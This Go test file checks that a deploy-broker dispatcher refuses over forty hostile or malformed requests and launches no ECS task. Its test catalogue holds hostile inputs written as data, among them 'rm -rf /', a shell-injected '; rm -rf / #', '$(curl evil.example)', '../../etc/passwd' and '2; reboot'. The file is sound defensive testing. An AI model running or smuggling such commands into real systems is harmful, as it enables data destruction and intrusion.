package reliability

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/ecs"
	ecstypes "github.com/aws/aws-sdk-go-v2/service/ecs/types"
	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"github.com/deploy-broker/deploy-broker/internal/config"
	"github.com/deploy-broker/deploy-broker/internal/dispatcher"
	"github.com/deploy-broker/deploy-broker/internal/localbroker"
	"github.com/deploy-broker/deploy-broker/internal/protocol"
	"github.com/deploy-broker/deploy-broker/internal/testkit/mototest"
	"github.com/deploy-broker/deploy-broker/internal/testkit/testutil"
)

// hostile is one request a hostile or broken client might send.
type hostile struct {
	name string
	body func(h *harness) []byte
	// answered: the run id is well-formed, so the dispatcher answers with a
	// rejected record on the run's queue; otherwise only the audit log knows.
	answered bool
	reason   string // a substring the reason must contain
}

type harness struct {
	now    time.Time
	usedID string // a run id an earlier, different request already claimed
	testutil.SyncBuffer
}

// audit is the dispatcher's log so far.
func (h *harness) audit() string { return h.String() }

// req builds a valid website run request and lets the case break it.
func (h *harness) req(mutate func(m map[string]any)) []byte {
	m := map[string]any{
		"v": 1, "kind": "run", "run_id": protocol.NewRunID(h.now), "job": "website",
		"params":       map[string]any{"version": "1.4.2"},
		"requested_at": h.now.Format(time.RFC3339Nano), "expires_at": h.now.Add(5 * time.Minute).Format(time.RFC3339Nano),
		"requester": map[string]any{"ci": "github-actions", "repository": "org/app", "actor": "mallory"},
	}
	if mutate != nil {
		mutate(m)
	}
	b, _ := json.Marshal(m)
	return b
}

func param(k string, v any) func(m map[string]any) {
	return func(m map[string]any) { m["params"].(map[string]any)[k] = v }
}

func field(k string, v any) func(m map[string]any) {
	return func(m map[string]any) {
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
	}
}

func raw(s string) func(h *harness) []byte { return func(*harness) []byte { return []byte(s) } }

func hostileCatalogue() []hostile {
	r := func(mut ...func(m map[string]any)) func(h *harness) []byte {
		return func(h *harness) []byte {
			return h.req(func(m map[string]any) {
				for _, f := range mut {
					f(m)
				}
			})
		}
	}
	return []hostile{
		{"not JSON", raw("deploy please"), false, "malformed JSON"},
		{"empty body", raw(""), false, "empty"},
		{"JSON null", raw("null"), false, "protocol version 0"},
		{"JSON array", raw(`[{"v":1}]`), false, "must be an object"},
		{"unknown top-level field", r(field("command", "rm -rf /")), false, `unknown field "command"`},
		{"unknown requester field", r(func(m map[string]any) { m["requester"].(map[string]any)["role"] = "admin" }), false, `unknown field "role"`},
		{"300 KiB body", r(param("version", strings.Repeat("1", 300*1024))), false, "over the 262144-byte limit"},
		{"wrong version", r(field("v", 2)), false, "protocol version 2"},
		{"version as a string", r(field("v", "1")), false, `field "v"`},
		{"missing kind", r(field("kind", nil)), false, "no kind"},
		{"unknown kind", r(field("kind", "deploy")), false, `kind "deploy" is unknown`},
		{"cancel carrying a job", r(field("kind", "cancel")), false, "may carry only"},
		{"missing run id", r(field("run_id", nil)), false, "ULID"},
		{"lower-case run id", r(func(m map[string]any) { m["run_id"] = strings.ToLower(m["run_id"].(string)) }), false, "Crockford"},
		{"short run id", r(field("run_id", "01JD")), false, "26-character"},
		{"run id with U", r(field("run_id", "01JDUUUUUUUUUUUUUUUUUUUUUU")), false, "Crockford"},
		{"trailing data", func(h *harness) []byte { return append(h.req(nil), []byte(` {"v":1}`)...) }, false, "after the JSON object"},
		{"params not strings", r(param("version", 142)), false, `field "params`},
		{"requester missing", r(field("requester", nil)), false, "no requester"},
		{"requester with a control character", r(func(m map[string]any) { m["requester"].(map[string]any)["actor"] = "eve\x1b[2J" }), false, "control character"},
		{"invalid parameter name", r(param("Version", "1.4.2")), false, "parameter name"},
		{"65 parameters", r(func(m map[string]any) {
			p := m["params"].(map[string]any)
			for i := 0; i < 65; i++ {
				p[fmt.Sprintf("p%d", i)] = "x"
			}
		}), false, "more than the 64 allowed"},
		{"job name with ../", r(field("job", "../website")), false, "job name"},
		{"10 KiB value", r(param("version", strings.Repeat("9", 10*1024))), false, "over the 4096-byte limit"},
		{"expires before it was made", r(func(m map[string]any) { m["expires_at"] = m["requested_at"] }), false, "before it was made"},
		// Well-formed run ids: the dispatcher answers on the run's queue.
		{"expired", func(h *harness) []byte {
			return h.req(func(m map[string]any) {
				m["requested_at"] = h.now.Add(-30 * time.Minute).Format(time.RFC3339)
				m["expires_at"] = h.now.Add(-20 * time.Minute).Format(time.RFC3339)
			})
		}, true, "request expired"},
		{"far-future expiry", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["expires_at"] = h.now.Add(48 * time.Hour).Format(time.RFC3339) })
		}, true, "longer than the broker's limit"},
		{"dated in the future", func(h *harness) []byte {
			return h.req(func(m map[string]any) {
				m["requested_at"] = h.now.Add(time.Hour).Format(time.RFC3339)
				m["expires_at"] = h.now.Add(time.Hour + 5*time.Minute).Format(time.RFC3339)
			})
		}, true, "in the future"},
		{"old run id", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["run_id"] = protocol.NewRunID(h.now.Add(-24 * time.Hour)) })
		}, true, "was not made for this request"},
		{"unknown job", r(field("job", "payroll")), true, `job "payroll" is not in this broker's catalogue`},
		{"missing required parameter", r(field("params", map[string]any{})), true, `parameter "version" is required`},
		{"undeclared parameter", r(param("debug", "true")), true, `parameter "debug" is not declared`},
		{"shell metacharacters", r(param("version", "1.4.2; rm -rf / #")), true, "does not match the pattern"},
		{"command substitution", r(param("version", "$(curl evil.example)")), true, "does not match the pattern"},
		{"newline in a value", r(param("version", "1.4.2\n--force")), true, "control character"},
		{"NUL in a value", r(param("version", "1.4.2\x00")), true, "control character"},
		{"path traversal", r(param("version", "../../etc/passwd")), true, "does not match the pattern"},
		{"enum value not allowed", r(param("colour", "red")), true, "must be one of blue, green"},
		{"int out of range", r(param("replicas", "1000")), true, "at most 10"},
		{"int not a number", r(param("replicas", "2; reboot")), true, "whole number"},
		{"long value within the protocol limit", r(param("version", strings.Repeat("1", 3000))), true, "bytes long"},
		{"reused run id", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["run_id"] = h.usedID; m["params"] = map[string]any{"version": "6.6.6"} })
		}, false, "already used by a different request"},
	}
}

// TestHostileRequestsAreRefusedAndLaunchNothing sends every request of the
// catalogue to the dispatcher, as SNS events through lambda.NewHandler, and
// checks each is refused with a clear reason and that no task ever starts.
func TestHostileRequestsAreRefusedAndLaunchNothing(t *testing.T) {
	_, awsCfg := mototest.Start(t)
	ctx := context.Background()
	h := &harness{now: time.Now().UTC()}
	d, cfg, res := newDispatcher(t, awsCfg, h)
	handler := lambda.NewHandler(d.Handle)
	invoke := func(body []byte) {
		ev, _ := json.Marshal(events.SNSEvent{Records: []events.SNSEventRecord{{EventSource: "aws:sns", EventVersion: "1.0",
			SNS: events.SNSEntity{Type: "Notification", MessageID: protocol.NewRunID(time.Now()), TopicArn: res.TopicARN, Message: string(body), Timestamp: time.Now()}}}})
		if _, err := handler.Invoke(ctx, ev); err != nil {
			t.Fatalf("handler failed instead of refusing: %v", err)
		}
	}
	ecsc := ecs.NewFromConfig(awsCfg)
	sq := sqs.NewFromConfig(awsCfg)

	// One legitimate run first, so that "reused run id" has an id to reuse.
	legit := h.req(nil)
	var first protocol.Request
	_ = json.Unmarshal(legit, &first)
	h.usedID = first.RunID
	invoke(legit)
	tasksBefore := countTasks(t, ecsc, res.ClusterARN)
	if tasksBefore != 1 {
		t.Fatalf("the legitimate request started %d tasks, want 1", tasksBefore)
	}

	cases := hostileCatalogue()
	if len(cases) < 30 {
		t.Fatalf("only %d hostile requests; the suite promises at least 30", len(cases))
	}
	refused := 0
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := c.body(h)
			before := len(h.audit())
			invoke(body)
			lines := h.audit()[before:]
			var reason string
			if c.answered {
				var req protocol.Request
				if err := json.Unmarshal(body, &req); err != nil {
					t.Fatal(err)
				}
				reason = rejectedReason(t, sq, cfg, req.RunID)
			} else {
				reason = decisionReason(t, lines)
			}
			if !strings.Contains(reason, c.reason) {
				t.Errorf("reason %q does not say %q", reason, c.reason)
			}
			if strings.Contains(reason, "\n") || len(reason) > 600 {
				t.Errorf("reason is not one clear line: %q", reason)
			}
			if strings.Contains(lines, `"decision":"accepted"`) {
				t.Errorf("hostile request was accepted: %s", lines)
			}
			refused++
		})
	}
	if n := countTasks(t, ecsc, res.ClusterARN); n != tasksBefore {
		t.Errorf("%d tasks exist after the hostile requests, want %d: something was launched", n, tasksBefore)
	}
	t.Logf("RESULT hostile_requests=%d refused=%d tasks_launched=%d", len(cases), refused, countTasks(t, ecsc, res.ClusterARN)-tasksBefore)
}

// newDispatcher provisions the reliability broker in moto and returns its
// dispatcher, writing its log to logw.
func newDispatcher(t *testing.T, awsCfg aws.Config, logw io.Writer) (*dispatcher.Dispatcher, *config.Config, *localbroker.Resources) {
	t.Helper()
	cfg, err := config.Load("testdata/broker.yaml")
	if err != nil {
		t.Fatal(err)
	}
	res, err := localbroker.Provision(context.Background(), awsCfg, cfg)
	if err != nil {
		t.Fatal(err)
	}
	d := dispatcher.New(cfg, dispatcher.Settings{
		Cluster: res.ClusterARN, LedgerTable: res.LedgerTable, Subnets: res.Subnets, SecurityGroups: res.SecurityGroups,
		AccountID: res.AccountID, Region: res.Region, TaskDefinitions: res.TaskDefinitions,
	}, dispatcher.Clients{SQS: sqs.NewFromConfig(awsCfg), ECS: ecs.NewFromConfig(awsCfg), Dynamo: dynamodb.NewFromConfig(awsCfg)},
		slog.New(slog.NewJSONHandler(logw, nil)))
	return d, cfg, res
}

func countTasks(t *testing.T, c *ecs.Client, cluster string) int {
	t.Helper()
	n := 0
	for _, st := range []ecstypes.DesiredStatus{ecstypes.DesiredStatusRunning, ecstypes.DesiredStatusStopped} {
		out, err := c.ListTasks(context.Background(), &ecs.ListTasksInput{Cluster: aws.String(cluster), DesiredStatus: st})
		if err != nil {
			t.Fatal(err)
		}
		n += len(out.TaskArns)
	}
	return n
}

// decisionReason returns the reason of the one non-accepting decision line
// in a stretch of audit log.
func decisionReason(t *testing.T, lines string) string {
	t.Helper()
	var found []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(lines), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil && m["msg"] == "decision" {
			found = append(found, m)
		}
	}
	if len(found) != 1 {
		t.Fatalf("want exactly one audit decision line, got %d:\n%s", len(found), lines)
	}
	if d := found[0]["decision"]; d != dispatcher.DecisionMalformed && d != dispatcher.DecisionReplayed && d != dispatcher.DecisionRejected {
		t.Errorf("decision %v, want a refusal", d)
	}
	reason, _ := found[0]["reason"].(string)
	return reason
}

// rejectedReason reads the rejected record from the run's queue.
func rejectedReason(t *testing.T, c *sqs.Client, cfg *config.Config, runID string) string {
	t.Helper()
	ctx := context.Background()
	q, err := c.GetQueueUrl(ctx, &sqs.GetQueueUrlInput{QueueName: aws.String(protocol.QueueName(cfg.Broker.Name, runID))})
	if err != nil {
		t.Fatalf("the dispatcher made no queue to answer on: %v", err)
	}
	out, err := c.ReceiveMessage(ctx, &sqs.ReceiveMessageInput{QueueUrl: q.QueueUrl, MaxNumberOfMessages: 10, WaitTimeSeconds: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range out.Messages {
		recs, err := protocol.DecodeMessage([]byte(aws.ToString(m.Body)))
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			if r.Type == protocol.TypeAccepted {
				t.Fatalf("the run was accepted")
			}
			if r.Type == protocol.TypeRejected {
				return r.Rejected.Reason
			}
		}
	}
	t.Fatalf("no rejected record on the run's queue")
	return ""
}
